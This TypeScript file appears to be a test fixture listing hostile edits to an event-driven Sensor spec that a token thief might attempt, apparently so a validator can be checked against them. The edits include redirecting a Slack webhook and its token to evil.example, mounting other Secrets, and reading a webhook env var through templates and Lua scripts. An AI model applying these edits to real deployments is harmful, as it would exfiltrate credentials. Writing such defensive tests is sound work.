/** A Sensor with any fields. */
export interface OpenObject {
  readonly apiVersion: string;
  readonly kind: string;
  readonly metadata: { readonly name: string };
  readonly spec: Spec;
}

export interface Spec {
  readonly template: { readonly container: { readonly env?: readonly object[] } };
  readonly triggers: readonly { readonly template: { readonly http: Http } }[];
}

interface Http {
  readonly url: string;
  readonly payload: readonly object[];
  readonly parameters?: readonly object[];
  readonly secureHeaders?: readonly object[];
}

/** A Sensor with one changed request of this receiver. */
const changed = (url: RegExp, change: (http: Http) => object) => (spec: Spec) => ({
  ...spec,
  triggers: spec.triggers
    .filter(({ template }) => url.test(template.http.url))
    .map((trigger) => ({
      ...trigger,
      template: { ...trigger.template, http: change(trigger.template.http) },
    })),
});
export const slack = (change: (http: Http) => object) => changed(/slack\.com/, change);
export const hidden = (change: (http: Http) => object) => changed(/hidden/, change);
const src = { dependencyName: "route_edge_0" };

/** Changes that a thief of the deployer's token might make. Each name completes "let the deployer not …". */
export const CHANGES: Readonly<Record<string, (spec: Spec) => object>> = {
  "send the Slack token elsewhere": slack((http) => ({ ...http, url: "https://evil.example" })),
  "send the Slack token to another receiver": slack((http) => ({
    ...http,
    url: "https://pager.acme.example",
  })),
  "send another Secret to a receiver": slack((http) => ({
    ...http,
    secureHeaders: [
      { name: "Authorization", valueFrom: { secretKeyRef: { name: "github-00", key: "nginx" } } },
    ],
  })),
  "change an address by a parameter": slack((http) => ({
    ...http,
    parameters: [{ src: { ...src, value: "https://evil.example" }, dest: "url" }],
  })),
  "take a hidden address from an Event": hidden((http) => ({
    ...http,
    parameters: [{ src: { ...src, dataTemplate: "{{ .Input.body.message }}" }, dest: "url" }],
  })),
  "write a hidden address into a message": slack((http) => ({
    ...http,
    payload: [{ src: { ...src, dataTemplate: '{{ env "URL_WEBHOOK_EDGE" }}' }, dest: "text" }],
  })),
  "write it by another function": slack((http) => ({
    ...http,
    payload: [{ src: { ...src, dataTemplate: "{{$x := (expandenv `$URL_WEBHOOK_EDGE`)}}" }, dest: "text" }],
  })),
  "write it after an assignment": slack((http) => ({
    ...http,
    payload: [{ src: { ...src, dataTemplate: '{{$x:=env "URL_WEBHOOK_EDGE"}}{{$x}}' }, dest: "text" }],
  })),
  "write it by a template over the Event's context": slack((http) => ({
    ...http,
    payload: [{ src: { ...src, contextTemplate: '{{ env "URL_WEBHOOK_EDGE" }}' }, dest: "text" }],
  })),
  "use an address of its own where an Event is missing": hidden((http) => ({
    ...http,
    parameters: http.parameters?.map((one) => {
      const { src: own, dest } = one as { src: object; dest: string };
      return { src: { ...own, dependencyName: "other", value: "https://evil.example" }, dest };
    }),
  })),
  "change a request when an Event comes": (spec: Spec) => ({
    ...spec,
    triggers: spec.triggers.map((trigger) => ({
      ...trigger,
      parameters: [{ src: { ...src, value: "https://evil.example" }, dest: "http.url" }],
    })),
  }),
  "trigger something else after a failure": (spec: Spec) => ({
    ...spec,
    triggers: spec.triggers.map((trigger) => ({ ...trigger, dlqTrigger: { template: { name: "x" } } })),
  }),
  ...Object.fromEntries(
    [
      { transform: { script: "event.body = os.getenv('URL_WEBHOOK_EDGE') return event" } },
      { filters: { script: "return os.getenv('URL_WEBHOOK_EDGE') ~= ''" } },
      {
        filters: {
          data: [{ path: "body", type: "string", value: ["x"], template: '{{ env "URL_WEBHOOK_EDGE" }}' }],
        },
      },
    ].map((more) => [
      `read it by ${JSON.stringify(more)}`,
      (spec: Spec) => ({
        ...spec,
        dependencies: [{ name: "x", eventSourceName: "notify", eventName: "kargo", ...more }],
      }),
    ]),
  ),
  "give the pod another Secret": (spec: Spec) => ({
    ...spec,
    template: {
      ...spec.template,
      container: {
        ...spec.template.container,
        env: [{ name: "X", valueFrom: { secretKeyRef: { name: "github-00", key: "nginx" } } }],
      },
    },
  }),
  "give the pod another ServiceAccount": (spec: Spec) => ({
    ...spec,
    template: { ...spec.template, serviceAccountName: "kargo-fleet-sensor" },
  }),
  "trigger something else": (spec: Spec) => ({
    ...spec,
    triggers: [{ template: { name: "x", log: {} } }],
  }),
};
